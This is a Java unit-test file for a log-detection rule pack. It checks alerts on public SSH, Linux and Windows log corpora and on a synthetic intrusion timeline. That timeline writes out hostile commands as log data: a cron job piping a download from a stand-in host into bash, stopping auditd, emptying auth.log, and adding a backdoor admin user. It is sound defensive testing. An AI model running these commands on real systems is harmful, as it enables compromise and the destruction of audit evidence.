package io.tidewatch.rules;

import static org.assertj.core.api.Assertions.assertThat;

import io.tidewatch.sigma.rule.Level;
import io.tidewatch.testkit.Corpora;
import java.io.IOException;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What the pack finds in logs that others recorded, and that it keeps still where there is nothing to find. */
class RealLogsTest {
    private static Map<String, Integer> low(String file, String received) {
        return new PackRun(Level.LOW, Instant.parse(received))
                .lines(Corpora.lines(file))
                .raised();
    }

    @Test
    void bruteForceAndSprayingAreFoundInOpenSsh() {
        assertThat(low("loghub/OpenSSH_2k.log", "2016-12-10T12:00:00Z"))
                .containsKeys("SSH Brute Force", "SSH Password Spraying", "SSH Attempts Exceeded")
                .doesNotContainKeys("SSH Login After Brute Force")
                .hasSizeLessThan(6);
    }

    @Test
    void guessingThroughPamAndFloodsOfFtpAreFoundInLinux() {
        Map<String, Integer> raised = low("loghub/Linux_2k.log", "2005-07-27T12:00:00Z");

        assertThat(raised)
                .containsKeys(
                        "Password Guessing Against PAM From an Address",
                        "Password Guessing Against PAM From a Named Host",
                        "FTP Connection Flood");
        assertThat(Set.of(
                        "Password Guessing Against PAM From an Address",
                        "Password Guessing Against PAM From a Named Host",
                        "FTP Connection Flood",
                        "Anonymous FTP Login",
                        "Root Login at the Console"))
                .as("nothing else")
                .containsAll(raised.keySet());
    }

    @ParameterizedTest
    @ValueSource(strings = {"HDFS", "Hadoop", "Zookeeper", "Windows", "Proxifier", "Apache"})
    void logsWithoutAnAttackRaiseNothingOfMedium(String system) {
        assertThat(new PackRun(Level.MEDIUM, Instant.parse("2016-01-01T00:00:00Z"))
                        .lines(Corpora.lines("loghub/" + system + "_2k.log"))
                        .raised())
                .isEmpty();
    }

    @Test
    void recordedWindowsAttacksAreFoundAndTheRestOfTheDayKeepsStill() throws IOException {
        PackRun run = new PackRun(Level.MEDIUM, Instant.parse("2020-09-01T00:00:00Z"));
        try (Stream<String> events = Corpora.stream("windows/windows-events.ndjson.zst")) {
            events.forEach(run::json);
        }

        Map<String, Integer> raised = run.raised();

        assertThat(raised)
                .containsKeys(
                        "Windows Security Log Cleared",
                        "Mimikatz Command",
                        "LSASS Memory Dumped by Command",
                        "Registry Hives With Credentials Saved",
                        "Script Run Through a System Program");
        assertThat(raised.values().stream().mapToInt(Integer::intValue).sum())
                .as("of 227,738 events: %s", raised)
                .isLessThan(100);
    }

    @Test
    void anIntrusionIsToldFromTheFirstProbeToTheLogsThatAreGone() {
        List<String> lines = new ArrayList<>();
        for (int i = 0; i < 45; i++) {
            lines.add("203.0.113.7 - - [21/Nov/2026:09:00:" + (10 + i) + " +0000] \"GET /old/backup-" + i
                    + ".zip HTTP/1.1\" 404 162 \"-\" \"gobuster/3.6\"");
        }
        lines.add("203.0.113.7 - - [21/Nov/2026:09:01:30 +0000] \"GET /.env HTTP/1.1\" 200 812 \"-\" \"curl/8.5.0\"");
        for (int i = 0; i < 12; i++) {
            lines.add("Nov 21 09:05:" + (10 + i)
                    + " web-1 sshd[900]: Failed password for deploy from 203.0.113.7 port 50" + (100 + i) + " ssh2");
        }
        lines.add("Nov 21 09:06:00 web-1 sshd[901]: Accepted password for deploy from 203.0.113.7 port 50200 ssh2");
        lines.add(
                "Nov 21 09:07:00 web-1 sudo:   deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/bin/bash");
        lines.add(
                "Nov 21 09:08:00 web-1 useradd[910]: new user: name=backupd, UID=1004, GID=1004, home=/home/backupd, shell=/bin/bash");
        lines.add("Nov 21 09:08:20 web-1 usermod[911]: add 'backupd' to group 'sudo'");
        lines.add("Nov 21 09:09:00 web-1 CRON[920]: (backupd) CMD (wget -qO- http://203.0.113.7/m.sh | bash)");
        lines.add(
                "Nov 21 09:10:00 web-1 sudo:  backupd : TTY=pts/1 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/systemctl stop auditd");
        lines.add("Nov 21 09:10:01 web-1 auditd[500]: The audit daemon is exiting.");
        lines.add(
                "Nov 21 09:11:00 web-1 sudo:  backupd : TTY=pts/1 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/truncate -s 0 /var/log/auth.log");

        assertThat(new PackRun(Level.LOW, Instant.parse("2026-11-21T10:00:00Z"))
                        .lines(lines)
                        .raised()
                        .keySet())
                .containsExactlyInAnyOrder(
                        "Scanner",
                        "Web Paths Enumerated",
                        "Sensitive File Served",
                        "SSH Brute Force",
                        "SSH Login After Brute Force",
                        "Root Shell Through Sudo",
                        "User Created",
                        "User Added to an Administrative Group",
                        "New Linux User Became an Administrator",
                        "Suspicious Cron Job",
                        "Download Piped Into a Shell",
                        "Logging or Protection Stopped by Command",
                        "Audit Daemon Stopped",
                        "Logs Deleted or Emptied");
    }
}
